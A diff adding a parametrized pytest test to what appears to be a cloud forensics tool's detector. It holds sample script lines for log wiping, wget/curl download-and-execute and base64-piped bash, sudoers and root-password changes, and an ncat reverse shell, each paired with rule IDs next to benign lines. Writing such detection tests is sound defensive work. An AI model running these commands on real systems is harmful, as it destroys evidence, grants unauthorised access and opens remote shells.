@@ -588,3 +588,23 @@ def test_gcp_lines_are_looked_for_only_where_its_guest_software_is(tmp_path):
     assert "cloud_agent_log" not in _collect(root)[0]
     _w(root, "/usr/bin/google_metadata_script_runner_adapt", b"\x7fELF", 0o755)
     assert _collect(root)[0]["cloud_agent_log"][0]["event"] == "account"
+
+
+@pytest.mark.parametrize("line, expected", [
+    ("rm -rf /var/log/*", "TRI-CLOUD-004"), ("shred -u /var/log/auth.log", "TRI-CLOUD-004"),
+    ("cat /dev/null > /var/log/wtmp", "TRI-CLOUD-004"), ("journalctl --vacuum-time=1s", "TRI-CLOUD-004"),
+    ("rm -rf /var/lib/amazon/ssm/i-0a1b2c3d4e5f60718/document", "TRI-CLOUD-004"),
+    ("echo deployed >> /var/log/deploy.log", None), ("rm -f /var/log/myapp/*.gz", None),
+    ("/opt/app/bin/migrate > /var/log/syslog.txt 2>&1", None), ("systemctl restart rsyslog", None),
+    ("wget -qO /tmp/.x http://198.51.100.3/a && chmod +x /tmp/.x && /tmp/.x", "TRI-CLOUD-001"),
+    ("curl -o /tmp/u.sh https://203.0.113.4/u.sh\nbash /tmp/u.sh", "TRI-CLOUD-001"),
+    ("echo ZWNobyBoaQ== | base64 -d | bash", "TRI-CLOUD-001"),
+    ("curl -fsS https://hc-ping.com/5f1c -o /dev/null", None), ("wget -q https://example.com/app.tgz", None),
+    ("usermod -aG sudo backup", "TRI-CLOUD-003"), ("echo 'svc ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/svc",
+                                                   "TRI-CLOUD-003"),
+    ("echo 'root:Passw0rd' | chpasswd", "TRI-CLOUD-003"), ("id deploy && getent group sudo", None),
+    ("ncat 203.0.113.8 443 -e /bin/bash", "TRI-CLOUD-002"), ("nc -z -w2 10.0.0.5 5432", None),
+])
+def test_channel_script_lines(tmp_path, line, expected):
+    found = _findings(_collect(_ssm_root(tmp_path / "root", f"#!/bin/bash\nset -e\n{line}\n"))[0])
+    assert [r for r, hits in found.items() if hits[0]["severity"] == "high"] == ([expected] if expected else []), line
